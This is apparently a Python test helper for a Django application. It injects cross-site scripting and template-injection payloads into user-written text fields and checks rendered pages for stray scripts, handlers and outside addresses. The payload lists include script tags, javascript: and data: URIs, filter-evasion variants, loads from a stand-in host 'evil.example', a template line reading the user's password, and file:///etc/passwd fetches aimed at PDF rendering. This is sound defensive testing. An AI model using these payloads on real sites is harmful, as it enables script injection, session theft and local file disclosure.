"""What somebody types who wants a page to do something: elements, handlers, addresses, styles, ends of comments and attributes.

`tagged_texts` lets every text that people can write end in one of these whenever it is read, so that nothing has to be written
anew, whatever guards a row has; `faults` says what of a page no page of ours has.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from itertools import cycle
from typing import Any

import pytest
from django.db import models
from lxml import html as lxml_html

from tests.architecture.house import FLOORS

HANDLERS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "hx-on:click",
    "hx-on::load",
]
ELEMENTS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "input autofocus",
    "iframe srcdoc=x",
    "math",
    "object data=x",
    "marquee",
]
ENDS = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "`",
    "{{",
    "\u2028",
    "&quot;>",
    "&#34;>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "https://evil.example/x.js",
]
WHOLE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>x",
    '<a href="javascript:alert(1)" ping=//evil.example/>x</a>',
    "<img src=x:x onerror=alert(1)//",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<div hx-get=//evil.example/ hx-trigger=load hx-headers='js:{x:alert(1)}'>",
    "<div data-countdown=1 hx-vals='js:{x:alert(1)}' id=content class=messages>",
    "<svg/onload=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\x3cscript\x3ealert(1)\x3c/script\x3e\u202e",
    "{% load x %}{{ request.user.password }}{{ 7|add:7 }}",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    'http://evil.example/" onmouseover="alert(1)',
    'mailto:x@evil.example?bcc=y"><script>alert(1)</script>',
    '"style="position:fixed;inset:0"onmouseover="alert(1)',
]
FOR_PAPER = [
    '<img src="http://127.0.0.1:{port}/a.png">',
    '<img src="file:///etc/passwd">',
    '<object data="http://127.0.0.1:{port}/b"></object><iframe src="http://127.0.0.1:{port}/c"></iframe>',
    '<link rel=attachment href="file:///etc/passwd"><a rel=attachment href="file:///etc/passwd">x</a>',
    '<style>@import url("http://127.0.0.1:{port}/d.css"); @font-face {{src: url("http://127.0.0.1:{port}/e.woff")}}</style>',
    '"><svg><image href="http://127.0.0.1:{port}/f"/></svg><x style="background:url(http://127.0.0.1:{port}/g)">',
]
HUMAN = re.compile(
    r"(?:.*_)?(?:name|title|text|note|reason|description|summary|subject|reference|comment|words|terms|intro|footer|body|html|place|contact|payer"
    r"|definition|prepare|promise|why|how|system|version|purpose|objection|company|settlement|answer|last_error|address)(?:_en|_sv)?"
)
"""Names of fields in which people write words of their own. Codes, causes, addresses to call and the like stay as they are."""
NOT_HUMAN = {"AgreementTerm.name", "Transmission.answer"}
"""Names of columns and words of machines, by model."""
NO_ELEMENT = {"iframe", "object", "embed", "base", "applet", "frame", "frameset", "marquee", "math", "video", "audio", "style", "mglyph"}
ADDRESSED = {"href", "src", "action", "formaction", "data", "poster", "srcset", "ping", "hx-get", "hx-post", "xlink:href", "background"}
ATTRIBUTE = re.compile(r"[a-z][a-zA-Z0-9:_-]*")
BLANK = re.compile(r"[\x00-\x20]")
ELSEWHERE = re.compile(r"(?:[a-z]+:)?//")


def payloads(number: int, port: int = 9) -> list[str]:
    """The first `number` of them, the most telling first."""
    drawn = [
        f"{end}<{element} {handler}=alert({place})>"
        for place, (element, handler) in enumerate((ELEMENTS[n % 10], HANDLERS[(n + n // 10 * 3) % 10]) for n in range(30))
        for end in ENDS[place % 4 :: 4]
    ]
    linked = [f"{end}<a href='{address}'>x</a>" for address in ADDRESSES for end in ENDS[:6]]
    papers = [payload.format(port=port) for payload in FOR_PAPER]
    return [*WHOLE[:8], *papers[:4], *drawn[:3], *WHOLE[8:], *papers[4:], *linked, *ADDRESSES, *drawn[3:]][:number]


@contextmanager
def tagged_texts(said: list[str]) -> Iterator[None]:
    """Every text of ours that people write ends in one of `said` when it is read, one after the other."""
    endings, is_on = cycle(said), [True]

    def read(self: Any, value: Any, _expression: Any, _connection: Any) -> Any:
        return f"{value}{next(endings)}" if is_on[0] and value and isinstance(value, str) and is_human(self) else value

    with pytest.MonkeyPatch.context() as patch:
        for kind in (models.CharField, models.TextField):
            patch.setattr(kind, "from_db_value", read, raising=False)
        yield
    is_on[0] = False  # statements that were made meanwhile keep it (core.rows)


def is_human(field: Any) -> bool:
    """Whether people write words of their own into this field."""
    if not hasattr(field, "model") or field.flatchoices or isinstance(field, (models.EmailField, models.URLField, models.SlugField)):
        return False
    return (
        field.model._meta.app_config.name in FLOORS
        and f"{field.model.__name__}.{field.name}" not in NOT_HUMAN
        and bool(HUMAN.fullmatch(field.name))
    )


def faults(page: str) -> list[str]:
    """What stands on a page, or a part of one, that we never write: as two readers see it."""
    if not page.strip():
        return []
    reader = _Reader()
    reader.feed(page)
    reader.close()
    tree = lxml_html.document_fromstring(page.encode(), parser=lxml_html.HTMLParser(encoding="utf-8"))
    seen = [
        (str(element.tag), {str(name): str(value) for name, value in element.attrib.items()})
        for element in tree.iter()
        if isinstance(element.tag, str)
    ]
    return [fault for tag, facts in [*reader.seen, *seen] for fault in _faults(tag, facts)]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def _faults(tag: str, facts: dict[str, str]) -> Iterator[str]:
    alien = tag in NO_ELEMENT or "<" in tag or (tag == "meta" and "http-equiv" in facts)
    address = facts.get("src" if tag == "script" else "href", "")
    leads_away = tag == "a" and "rel" not in facts and ELSEWHERE.match(BLANK.sub("", address))
    if alien or leads_away or (tag in {"script", "link"} and not address.startswith("/static/")):
        yield f"<{tag} {facts}>"
    yield from (f"<{tag} {name}={value[:60]!r}>" for name, value in facts.items() if _is_alien(tag, name, value))


def _is_alien(tag: str, name: str, value: str) -> bool:
    """Whether no attribute of ours is so: a handler, a style, an address that runs or leads elsewhere."""
    if name.startswith(("on", "hx-on", "hx-vals", "hx-vars", "srcdoc")) or name == "style" or not ATTRIBUTE.fullmatch(name):
        return True
    plain = BLANK.sub("", value).lower()
    runs = plain.startswith(("javascript:", "data:", "vbscript:", "file:"))
    return name in ADDRESSED and (runs or (tag != "a" and ELSEWHERE.match(plain) is not None))
